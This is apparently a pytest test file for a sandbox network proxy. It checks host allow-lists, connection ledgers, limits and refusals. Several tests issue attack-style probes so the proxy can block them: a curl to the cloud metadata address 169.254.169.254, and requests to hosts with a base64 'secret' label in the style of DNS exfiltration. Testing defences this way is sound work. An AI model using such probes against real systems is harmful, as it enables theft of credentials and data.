"""Network by policy (issue 35): a task's own network namespace whose one way out is settled's
proxy, and the ledger of what left the sandbox.

Real sessions through the Runtime as root, real namespaces and sockets: a server on the host's
127.0.0.1 (a thread of this test) is what a command must not reach unless granted; the proxy
is the home's daemon, ended with the test. The pure halves (patterns, the ledger's rule) are
tested with facts alone at the end.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import _skip_unavailable
from test_trust import attack

from settled import netledger, netpolicy
from settled.errors import BadInput
from settled.netproxy import lifecycle
from settled.records import TaskRecord
from settled.runtime import Runtime

pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0, reason="pods and the proxy's namespaces need root"),
    pytest.mark.timeout(120),
]
BODY = b"settled" * 20000  # 140,000 bytes
CURL = "curl -sS --max-time 20 -o /dev/null -w '%{http_code} %{size_download}\\n'"
VIA_PROXY = f"{CURL} --noproxy '' -x $http_proxy"  # curl skips the proxy for NO_PROXY's 127.0.0.1


@pytest.fixture(autouse=True)
def _strong_paths(rt: Runtime) -> Iterator[None]:
    _skip_unavailable("cgroup2+pidns")
    yield
    lifecycle.stop(rt.home)


class _Served(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        if self.path == "/forever":  # a download that never ends
            self.send_response(200)
            self.end_headers()
            with contextlib.suppress(OSError):
                while True:
                    self.wfile.write(b"." * 65536)
                    time.sleep(0.01)
            return
        self.send_response(200)
        self.send_header("Content-Length", str(len(BODY)))
        self.end_headers()
        self.wfile.write(BODY)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def host_server() -> Iterator[int]:
    """An HTTP server on the host's loopback: the kind of host service a command must not
    reach unless granted. Its port."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Served)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()
        thread.join(10)


def _ledger(receipt: dict) -> dict:
    network = receipt.get("network")
    assert network is not None, json.dumps(receipt, default=str)[:2000]
    return dict(network["ledger"])


def test_proxy_is_the_default_and_its_variables_are_in_the_env_and_the_digest(
    rt: Runtime, task: TaskRecord
) -> None:
    receipt, out, _ = attack(rt, task, "echo $HTTP_PROXY $https_proxy $NO_PROXY")
    assert out == f"{netpolicy.PROXY_URL} {netpolicy.PROXY_URL} {netpolicy.NO_PROXY}\n"
    assert receipt["isolation"]["network"]["mode"] == "proxy"
    assert receipt["isolation"]["network"]["interfaces"] == ["lo"]
    assert _ledger(receipt)["count"] == 0
    assert _ledger(receipt)["summary"] == "no connection"
    spec = rt.store.get_session(receipt["session"]).spec
    assert spec["network"] == "proxy"
    assert ["HTTP_PROXY", netpolicy.PROXY_URL] in spec["env"]


def test_a_host_service_is_unreachable_in_proxy_and_none_and_reachable_in_host(
    rt: Runtime, task: TaskRecord, host_server: int
) -> None:
    """The host's 127.0.0.1 is not the task's: directly, a command reaches it only with
    `--network host`; through the proxy, only when granted (the next test)."""
    direct = f"{CURL} --noproxy '*' http://127.0.0.1:{host_server}/"
    for network in ("proxy", "none"):
        receipt, out, err = attack(rt, task, direct, network=network)
        assert out.startswith("000"), (network, out, err)
        assert "Connection refused" in err or "Couldn't connect" in err, err
    receipt, out, _ = attack(rt, task, direct, network="host")
    assert out == f"200 {len(BODY)}\n"
    assert "network" not in receipt  # no proxy, no ledger: the receipt's isolation says host
    assert receipt["isolation"]["network"]["mode"] == "host"


def test_through_the_proxy_a_granted_host_server_is_reached_and_recorded_with_its_bytes(
    rt: Runtime, task: TaskRecord, host_server: int
) -> None:
    grant = f"127.0.0.1:{host_server}"
    receipt, out, _ = attack(rt, task, f"{VIA_PROXY} http://{grant}/file", allow_hosts=[grant])
    assert out == f"200 {len(BODY)}\n"
    ledger = _ledger(receipt)
    assert ledger["count"] == 1 and ledger["ends"] == {"closed": 1}
    (entry,) = ledger["entries"]
    assert (entry["host"], entry["port"], entry["kind"]) == ("127.0.0.1", host_server, "http")
    assert (entry["method"], entry["authority"]) == ("GET", grant)
    assert entry["received"] > len(BODY) and entry["sent"] > 0
    assert ledger["summary"] == f"1 connection to {grant}, closed"
    assert receipt["network"]["allow_hosts"] == [grant]
    said = rt.explain(task.task)
    assert said["sessions"][0]["network"] == ledger["summary"]
    assert rt.session_status(receipt["session"])["network"] == ledger["summary"]
    closed = rt.close_task(task.task)
    assert closed.complete and closed.receipt is not None
    (session,) = closed.receipt["sessions"]
    assert session["network"] == ledger["summary"]
    assert f"network through the proxy: 1 connection to {grant}, closed" in said["words"]


def test_a_host_not_allowed_is_refused_with_403_and_recorded(
    rt: Runtime, task: TaskRecord, host_server: int
) -> None:
    """No pattern: the host's loopback and the metadata address are host services, refused
    unless named; with a pattern, anything else is refused too. Nothing is sent."""
    shell = (f"{VIA_PROXY} http://127.0.0.1:{host_server}/; "
             f"{VIA_PROXY} http://169.254.169.254/latest/meta-data")  # fmt: skip
    receipt, out, _ = attack(rt, task, shell)
    assert out.count("403 ") == 2, out
    ledger = _ledger(receipt)
    assert ledger["ends"] == {"refused": 2}
    assert "the host's loopback" in ledger["entries"][0]["why"]
    assert "link-local" in ledger["entries"][1]["why"]
    assert ledger["summary"] == (
        f"1 refused to 127.0.0.1:{host_server}; 1 refused to 169.254.169.254:80"
    )
    receipt, out, _ = attack(
        rt, task, f"{VIA_PROXY} http://127.0.0.1:{host_server}/; "
        f"{VIA_PROXY} http://c2VjcmV0.exfil.invalid/",
        allow_hosts=["pypi.org"],
    )  # fmt: skip
    assert out.count("403 ") == 2, out
    first, second = _ledger(receipt)["entries"]
    assert "matches no --allow-host" in first["why"]
    assert second["host"] == "c2vjcmv0.exfil.invalid" and "not resolved" in second["why"]


def test_a_download_killed_by_its_timeout_is_unknown_in_the_ledger(
    rt: Runtime, task: TaskRecord, host_server: int
) -> None:
    grant = f"127.0.0.1:{host_server}"
    admission = rt.exec(
        task.task, shell=f"{VIA_PROXY} http://{grant}/forever", allow_hosts=[grant],
        timeout=1.5, grace=0.5,
    )  # fmt: skip
    receipt = rt.wait(admission.session, timeout=60)["receipt"]
    assert receipt["exit"]["reason"] == "timeout"
    ledger = _ledger(receipt)
    assert ledger["ends"] == {"unknown": 1}, ledger
    (entry,) = ledger["entries"]
    assert entry["received"] > 0, entry  # bytes had come when the session was killed
    assert "aborted" in entry["why"] or "being killed" in entry["why"], entry
    assert ledger["summary"] == f"1 unknown to {grant}"


def test_a_raw_socket_to_an_outside_address_gets_no_route(rt: Runtime, task: TaskRecord) -> None:
    """A tool that ignores the proxy variables: the task's namespace has no interface but its
    loopback, so no route leaves it, and nothing reaches the ledger."""
    probe = ("python3 -c 'import socket,errno\ntry:\n"
             " socket.create_connection((\"1.1.1.1\", 80), 5)\n"
             "except OSError as e: print(errno.errorcode[e.errno])'")  # fmt: skip
    receipt, out, _ = attack(rt, task, probe)
    assert out.strip() == "ENETUNREACH"
    assert _ledger(receipt)["count"] == 0


def test_each_connection_is_in_the_ledger_of_the_session_whose_process_made_it(
    rt: Runtime, task: TaskRecord, host_server: int
) -> None:
    """Two sessions of one task share the proxy's listener; the kernel's record of the socket's
    cgroup, not anything the command says, decides whose ledger a connection is in."""
    grant = f"127.0.0.1:{host_server}"
    first = rt.exec(task.task, shell=f"{VIA_PROXY} http://{grant}/a", allow_hosts=[grant])
    second = rt.exec(
        task.task, shell=f"{VIA_PROXY} http://{grant}/b; {VIA_PROXY} http://{grant}/c",
        allow_hosts=[grant],
    )  # fmt: skip
    one = _ledger(rt.wait(first.session, timeout=60)["receipt"])
    two = _ledger(rt.wait(second.session, timeout=60)["receipt"])
    assert one["count"] == 1 and two["count"] == 2


def test_past_the_tasks_connection_limit_a_connection_is_refused_and_said(
    rt: Runtime, task: TaskRecord, host_server: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SETTLED_PROXY_CONNECTIONS", "2")  # the daemon this test starts
    grant = f"127.0.0.1:{host_server}"
    shell = (f"for i in 1 2; do {VIA_PROXY} http://{grant}/forever & done; sleep 1; "
             f"{VIA_PROXY} http://{grant}/x; kill %1 %2; wait")  # fmt: skip
    receipt, out, _ = attack(rt, task, shell, allow_hosts=[grant])
    assert "503" in out, out
    ledger = _ledger(receipt)
    assert ledger["limit_hit"] is True
    limited = [e for e in ledger["entries"] if e.get("limit")]
    assert len(limited) == 1 and "connection limit (2" in limited[0]["why"]


def test_bad_network_input_is_refused_naming_it_and_nothing_is_launched(
    rt: Runtime, task: TaskRecord, tmp_path: Path
) -> None:
    before = len(rt.store.list_sessions(task.task))
    for patterns, words in (
        (["pypi.org:99999"], "the port must be 1..65535"),
        (["PyPI.org"], "not a lower-case host name"),
        (["*"], "not a lower-case host name"),
        (["*.org"], "a wildcard needs a domain of two labels"),
        (["[::1"], "not an IPv6 address in brackets"),
    ):
        with pytest.raises(BadInput, match="allow_hosts") as caught:
            rt.exec(task.task, shell="true", allow_hosts=patterns)
        assert words in str(caught.value)
    with pytest.raises(BadInput, match="allow_hosts must be a list"):  # never letter by letter
        rt.exec(task.task, shell="true", allow_hosts="pypi.org")  # type: ignore[arg-type]
    with pytest.raises(BadInput, match="only --network proxy"):
        rt.exec(task.task, shell="true", network="none", allow_hosts=["pypi.org"])
    with pytest.raises(BadInput, match="network"):
        rt.exec(task.task, shell="true", network="wifi")
    after = len(rt.store.list_sessions(task.task))
    assert after == before


# -- the pure halves ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("patterns", "host", "port", "address", "own", "allowed"),
    [
        ((), "pypi.org", 443, "151.101.0.223", False, True),
        ((), "evil.example", 80, "127.0.0.1", False, False),  # a name that resolves home
        ((), "10.0.0.7", 5432, "10.0.0.7", False, False),
        ((), "myhost", 80, "203.0.113.9", True, False),  # one of the host's own addresses
        (("pypi.org",), "pypi.org", 443, "151.101.0.223", False, True),
        (("pypi.org:443",), "pypi.org", 80, "151.101.0.223", False, False),
        (("*.pythonhosted.org",), "files.pythonhosted.org", 443, "151.101.1.63", False, True),
        (("*.pythonhosted.org",), "pythonhosted.org", 443, "151.101.1.63", False, False),
        (("*.example.com",), "a.example.com", 80, "127.0.0.1", False, False),  # rebinding
        (("127.0.0.1:5432",), "127.0.0.1", 5432, "127.0.0.1", False, True),
        (("db.internal:5432",), "db.internal", 5432, "10.1.2.3", False, True),
        (("[::1]:8080",), "::1", 8080, "::1", False, True),
    ],
)
def test_decide_lets_a_wildcard_reach_no_host_service(
    patterns: tuple[str, ...], host: str, port: int, address: str, own: bool, allowed: bool
) -> None:
    assert (netpolicy.decide(patterns, host, port, address, own) is None) is allowed


def test_a_name_no_pattern_allows_is_never_resolved() -> None:
    """Asked before any DNS query: a name that no pattern names leaves no query either (DNS
    is a channel out of its own); an address pattern matches that address asked for, never a
    name that resolves to it."""
    assert netpolicy.may_resolve((), "anything.example", 443) is None
    assert netpolicy.may_resolve(("pypi.org",), "pypi.org", 443) is None
    assert netpolicy.may_resolve(("*.pythonhosted.org:443",), "files.pythonhosted.org", 443) is None
    why = netpolicy.may_resolve(("pypi.org",), "c2VjcmV0.attacker.example", 443)
    assert why is not None and "not resolved" in why
    assert netpolicy.may_resolve(("pypi.org:443",), "pypi.org", 80) is not None
    assert netpolicy.decide(("10.0.0.7",), "db.example", 5432, "10.0.0.7", False) is not None


def test_the_ledger_trusts_an_end_only_before_the_kill() -> None:
    events = [
        {"e": "open", "id": 1, "host": "a.org", "port": 443, "kind": "connect"},
        {"e": "end", "id": 1, "mono": 10.0, "how": "closed", "sent": 5, "received": 7},
        {"e": "open", "id": 2, "host": "b.org", "port": 443, "kind": "connect"},
        {"e": "end", "id": 2, "mono": 20.0, "how": "reset", "sent": 1, "received": 0},
        {"e": "open", "id": 3, "host": "c.org", "port": 443, "kind": "connect"},
        {"e": "refused", "id": 4, "host": "169.254.169.254", "port": 80, "why": "link-local"},
    ]
    ends = [e["end"] for e in netledger.entries(events, None)]
    assert ends == ["closed", "reset", "unknown", "refused"]
    killed = netledger.entries(events, 15.0)
    assert [e["end"] for e in killed] == ["closed", "unknown", "unknown", "refused"]
    assert netledger.summary(killed) == (
        "1 connection to a.org:443, closed; 1 refused to 169.254.169.254:80; "
        "1 unknown to b.org:443; 1 unknown to c.org:443"
    )
    facts = netledger.facts(killed, 1, "d")
    assert facts["count"] == 4 and facts["damaged_lines"] == 1
    assert facts["ends"] == {"closed": 1, "refused": 1, "unknown": 2}


def test_the_proxy_env_points_every_tool_at_the_tasks_proxy() -> None:
    env = dict(netpolicy.proxy_env())
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy"):
        assert env[name] == f"http://127.0.0.1:{netpolicy.PROXY_PORT}"
    assert env["no_proxy"] == env["NO_PROXY"] == "localhost,127.0.0.1,::1"


def test_a_proxy_killed_mid_download_leaves_its_owner_a_true_receipt_and_a_next_session_a_proxy(
    rt: Runtime, task: TaskRecord, host_server: int
) -> None:
    """The proxy dies (SIGKILL) under a session's download: the owner still seals what was
    written, the connection it never saw end is unknown, the receipt says the proxy did not
    answer; the task's next session gets a proxy again."""
    grant = f"127.0.0.1:{host_server}"
    admission = rt.exec(
        task.task, shell=f"{VIA_PROXY} http://{grant}/forever", allow_hosts=[grant], timeout=30
    )
    lock = Path(rt.home, "run", "netproxy.sock.lock")
    ledger_file = Path(rt.home, "sessions", admission.session, netledger.LEDGER_NAME)
    deadline = time.monotonic() + 20
    while b'"open"' not in (ledger_file.read_bytes() if ledger_file.exists() else b""):
        assert time.monotonic() < deadline, "the download never began"
        time.sleep(0.05)
    os.kill(int(lock.read_text()), 9)
    receipt = rt.wait(admission.session, timeout=60)["receipt"]
    assert receipt["death"]["proven"]
    assert "did not answer" in receipt["network"]["proxy_trouble"]
    assert _ledger(receipt)["ends"] == {"unknown": 1}
    receipt, out, _ = attack(rt, task, f"{VIA_PROXY} http://{grant}/", allow_hosts=[grant])
    assert out == f"200 {len(BODY)}\n" and _ledger(receipt)["ends"] == {"closed": 1}


def test_a_proxy_that_cannot_listen_in_the_task_refuses_the_session_naming_why(
    rt: Runtime, task: TaskRecord
) -> None:
    """A command of the task (under --network none, before any proxy session) holds the
    proxy's port in the task's namespace: the next proxy session is refused at isolation,
    naming the port, and nothing of it runs."""
    holder = rt.exec(
        task.task, network="none", service=True,
        shell="exec python3 -c 'import socket,time\ns=socket.socket()\n"
        f"s.bind((\"127.0.0.1\",{netpolicy.PROXY_PORT}))\ns.listen()\nprint(1,flush=True)\n"
        "time.sleep(60)'",
    )  # fmt: skip
    deadline = time.monotonic() + 20
    while rt.read(holder.session, "stdout") != b"1\n":
        assert time.monotonic() < deadline, rt.read(holder.session, "stderr")
        time.sleep(0.05)
    admission = rt.exec(task.task, shell="echo RAN")
    receipt = rt.wait(admission.session, timeout=60)["receipt"]
    assert receipt["exit"]["reason"] == "not_started", receipt["exit"]
    assert receipt["exit"]["stage"] == "isolation"
    assert f"127.0.0.1:{netpolicy.PROXY_PORT}" in receipt["exit"]["error"]
    assert rt.read(admission.session, "stdout") == b""
    rt.cancel(holder.session, "test over")
    rt.wait(holder.session, timeout=60)


def test_the_http_body_checks_allow_hosts_naming_the_field() -> None:
    from settled.requests import ExecRequest, TaskRequest

    base = {"key": "k", "shell": "true"}
    assert ExecRequest.from_json({**base, "allow_hosts": ["pypi.org:443"]}).allow_hosts == [
        "pypi.org:443"
    ]
    assert ExecRequest.from_json(base).allow_hosts is None  # the task's, then
    for bad in (["PyPI.org"], "pypi.org", [7]):
        with pytest.raises(BadInput, match="allow_hosts"):
            ExecRequest.from_json({**base, "allow_hosts": bad})
    assert TaskRequest.from_json({"allow_hosts": ["*.pythonhosted.org"]}).allow_hosts == [
        "*.pythonhosted.org"
    ]


def test_recovery_seals_the_ledger_of_a_session_whose_owner_was_killed(
    rt: Runtime, task: TaskRecord, host_server: int
) -> None:
    """The owner dies (SIGKILL) mid-download: recovery kills what is left of the command, seals
    the ledger the proxy kept, and its receipt says the connection is unknown."""
    grant = f"127.0.0.1:{host_server}"
    admission = rt.exec(
        task.task, shell=f"{VIA_PROXY} http://{grant}/forever", allow_hosts=[grant], timeout=60
    )
    ledger_file = Path(rt.home, "sessions", admission.session, netledger.LEDGER_NAME)
    deadline = time.monotonic() + 20
    while b'"open"' not in (ledger_file.read_bytes() if ledger_file.exists() else b""):
        assert time.monotonic() < deadline, "the download never began"
        time.sleep(0.05)
    assert admission.owner_pid is not None
    os.kill(admission.owner_pid, 9)
    deadline = time.monotonic() + 30
    while rt.session_status(admission.session)["state"] != "unknown":
        assert time.monotonic() < deadline, rt.session_status(admission.session)
        time.sleep(0.1)
    rt.recover(task.task)
    receipt = rt.wait(admission.session, timeout=60)["receipt"]
    assert receipt["exit"]["reason"] == "owner_lost" and receipt["death"]["proven"]
    ledger = _ledger(receipt)
    assert ledger["ends"] == {"unknown": 1}, ledger
    assert receipt["network"]["allow_hosts"] == [grant]


def test_a_full_ledger_refuses_what_it_cannot_record_and_the_receipt_counts_it(
    rt: Runtime, task: TaskRecord, host_server: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A command cannot fill the home's disk through its ledger: past the session's entries
    (SETTLED_PROXY_LEDGER_ENTRIES, 100,000 by default) a connection is refused (503) and
    only counted, and the receipt says how many."""
    monkeypatch.setenv("SETTLED_PROXY_LEDGER_ENTRIES", "3")  # the daemon this test starts
    grant = f"127.0.0.1:{host_server}"
    shell = f"for i in 1 2 3 4 5; do {VIA_PROXY} http://{grant}/; done"
    receipt, out, _ = attack(rt, task, shell, allow_hosts=[grant])
    assert out.split("\n")[:5] == [f"200 {len(BODY)}"] * 3 + ["503 0"] * 2, out
    ledger = _ledger(receipt)
    assert ledger["count"] == 3 and ledger["refused_unrecorded"] == 2 and ledger["limit_hit"]
